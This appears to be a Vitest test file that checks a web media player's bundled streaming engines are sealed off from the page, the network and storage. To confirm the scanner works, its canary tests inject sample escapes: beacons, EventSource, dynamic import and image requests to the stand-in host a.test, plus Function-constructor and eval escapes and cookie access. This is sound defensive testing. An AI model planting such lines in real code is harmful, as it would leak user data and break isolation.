import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { languageNames } from '../../rollup.seal.mjs';
import { doors, harmless, members, taken, waysBack } from './census.js';
import { reachOf } from './scan.js';

const dist = new URL(process.env.JET_ROOT ? `file://${process.env.JET_ROOT}/dist/` : '../../dist/', import.meta.url);
const read = (file: string) => readFileSync(new URL(file, dist), 'utf8');
const present = existsSync(new URL('chunks/', dist)) ? readdirSync(new URL('chunks/', dist)) : [];

/** A file and all that it imports, now or later; what an earlier build left behind is not among them. */
function withImports(file: string, known: Set<string> = new Set()): Set<string> {
  if (known.has(file)) return known;
  const text = read(file);
  known.add(file);
  for (const name of present) if (text.includes(`/${name}`)) withImports(`chunks/${name}`, known);
  return known;
}

const engines = ['hls', 'eme', 'dash', 'imsc', 'protection'];
const shipped = [...new Set(['jet-player.js', 'media.js', 'policy.js'].flatMap((file) => [...withImports(file)]))].sort();
const isEngine = (file: string) => engines.some((engine) => file.startsWith(`chunks/${engine}-`));
const chunkOf = (engine: string) => shipped.find((file) => file.startsWith(`chunks/${engine}-`)) ?? `chunks/${engine}-missing`;
/** Everything a page may load that is not an engine. */
const core = shipped.filter((file) => !isEngine(file));
/** What each entry that is built on its own brings: a page loads one of them. */
const loads = ['jet-player.js', 'media.js'].map((entry) => [entry, [...withImports(entry)].filter((file) => !isEngine(file))] as const);

/** What an engine's code reaches beyond what is written down; empty for a sealed one. */
function escapes(engine: string, code: string): string[] {
  const reach = reachOf(code);
  const beyond = (names: readonly string[], known: readonly string[] = []) => names.filter((name) => !known.includes(name));
  return [
    ...reach.free.filter((name) => !languageNames.has(name)),
    ...beyond(reach.taken, taken[engine]),
    ...beyond(reach.members, members[engine]),
    ...waysBack.filter(({ pattern, counts }) => (code.match(pattern)?.length ?? 0) > counts[engine]!).map(({ pattern }) => pattern.source)
  ];
}

/** What our own code may open, each in one place: see the tests that count them. */
const ours = ['window.fetch', 'window.localStorage', 'window.sessionStorage'];

/** The doors that our own code has, but for those. */
function openDoors(code: string): string[] {
  const { free, members: named } = reachOf(code);
  return [
    ...free.filter((name) => !languageNames.has(name) && !harmless.has(name)),
    ...named.filter((name) => doors.test(name) && !ours.includes(name))
  ];
}

/** What a later release of an engine might bring: ways to phone home, and ways to get hold of the page. */
const doctored = [
  'navigator.sendBeacon("https://a.test/")',
  'new EventSource("https://a.test/")',
  '(() => {}).constructor("return this")()',
  'import("https://a.test/")',
  'function f(e) { return e.ownerDocument }',
  '(0, eval)("1")'
];

// The engines are large, and to take them apart is seconds of work on a small machine.
describe.each(engines)('the sealed chunk of %s', { timeout: 240_000 }, (engine) => {
  const code = read(chunkOf(engine));
  const reach = reachOf(code);

  it('has no free identifier but those of the language', () => {
    expect(reach.free.filter((name) => !languageNames.has(name))).toEqual([]);
  });

  it('takes from its realm exactly what is written down', () => {
    expect(reach.taken).toEqual(taken[engine]);
  });

  it('names of its global object, document and navigator exactly what is written down', () => {
    expect(reach.members).toEqual(members[engine]);
  });

  it.each(waysBack.map((way) => [way.pattern.source, way] as const))(
    'has no way back to the page: %s',
    (_, { pattern, counts, reason }) => {
      expect(code.match(pattern)?.length ?? 0, reason).toBe(counts[engine]);
    }
  );

  it('canary: doctored, it is caught, and by name', () => {
    const found = escapes(engine, [code, ...doctored].join(';'));
    expect(escapes(engine, code)).toEqual([]);
    for (const name of ['navigator', 'EventSource', 'constructor', 'import', 'ownerDocument', 'eval'])
      expect(found.join(' ')).toContain(name);
    expect(found.length).toBeGreaterThanOrEqual(doctored.length);
  });
});

describe.each(engines.filter((engine) => taken[engine]!.length > 0))('the realm of %s', { timeout: 240_000 }, (engine) => {
  it('canary: a capability asked of it is caught by its name', () => {
    const realm = /const\s*\{(?=[^}]*\b(?:self|window)\b)(?=[^}]*\batob\b)/;
    expect(escapes(engine, read(chunkOf(engine)).replace(realm, '$&EventSource:EventSource$,'))).toEqual(['EventSource']);
  });
});

describe('what reads TTML', () => {
  /** What is asked of a realm by a sealed function. */
  const askedBy = (seal: (realm: object) => unknown) => {
    const asked: (string | symbol)[] = [];
    const result = seal(new Proxy({}, { get: (_, name) => void asked.push(name) }));
    return { asked, result };
  };

  it('asks its realm for nothing, and is what dash.js calls', async () => {
    const { default: seal } = (await import(new URL(chunkOf('imsc'), dist).href)) as { default: (realm: object) => object };
    const { asked, result } = askedBy(seal);
    expect(asked).toEqual([]);
    expect(result).toMatchObject({ fromXML: expect.any(Function) as unknown, generateISD: expect.any(Function) as unknown });
  });

  it('canary: what it asked for would be seen', () => {
    expect(askedBy(({ fetch }: { fetch?: unknown }) => fetch).asked).toEqual(['fetch']);
  });

  it('is no part of dash.js, and nothing that marks requests is', () => {
    expect(read(chunkOf('dash'))).not.toMatch(/generateISD=|SAXParser|CMCD-Request|toCmcdHeaders|CMSD-Static/);
  });
});

describe('what a manifest could do inside a seal', () => {
  it('no event has an address called', () => {
    expect(read(chunkOf('dash'))).not.toContain('urn:mpeg:dash:event:callback');
  });

  it('no playlist has room made for more segments than there are', () => {
    expect(read(chunkOf('hls'))).toMatch(/Math\.min\(\w+\.decimalInteger\("SKIPPED-SEGMENTS"\),1e5-\w+\.skippedSegments\)/);
  });
});

describe('all that is not an engine', { timeout: 240_000 }, () => {
  it.each(core)('%s takes nothing from the page that contacts or remembers', (file) => {
    expect(openDoors(read(file))).toEqual([]);
  });

  it.each(loads)('%s has one way to the network, and that is the guard', (_, files) => {
    expect(files.flatMap((file) => read(file).match(/\bglobalThis\.fetch\b/g) ?? [])).toEqual(['globalThis.fetch']);
    expect(files.filter((file) => reachOf(read(file)).members.includes('window.fetch'))).toHaveLength(1);
  });

  it.each(loads)('%s has one way to storage, and that is the one door', (_, files) => {
    for (const name of ['localStorage', 'sessionStorage']) {
      expect(files.flatMap((file) => read(file).match(new RegExp(`\\b${name}\\b`, 'g')) ?? [])).toEqual([name]);
      expect(files.filter((file) => reachOf(read(file)).members.includes(`window.${name}`))).toHaveLength(1);
    }
  });

  it.each(loads)('%s names Google in one address, which is no request', (_, files) => {
    const addresses = files.flatMap((file) => read(file).match(/https:\/\/[\w.-]*(?:google|gstatic)[\w./?=-]*/g) ?? []);
    expect(addresses).toEqual(['https://www.gstatic.com/cv/js/sender/v1/cast_sender.js?loadCastFramework=1']);
  });

  it.each([
    ['a bare fetch', 'fetch("https://a.test/")', 'fetch'],
    ['a picture', 'new Image().src = "https://a.test/"', 'Image'],
    ['a beacon', 'navigator.sendBeacon("https://a.test/")', 'navigator.sendBeacon'],
    ['a store', 'globalThis.indexedDB.open("a")', 'window.indexedDB'],
    ['a cookie', 'document.cookie = "a=1"', 'document.cookie']
  ])('canary: %s is caught', (_, doctored, name) => {
    expect(openDoors(`${read('jet-player.js')};${doctored}`)).toEqual([name]);
  });
});

describe('the single script', () => {
  const reach = reachOf(read('jet-player.bundle.js'));

  it('has no free identifier but the language and what is harmless', () => {
    expect(reach.free.filter((name) => !languageNames.has(name) && !harmless.has(name))).toEqual([]);
  });

  it('carries the engines as sealed as the chunks', () => {
    expect(reach.taken).toEqual([...new Set(engines.flatMap((engine) => taken[engine]!))].sort());
  });
});
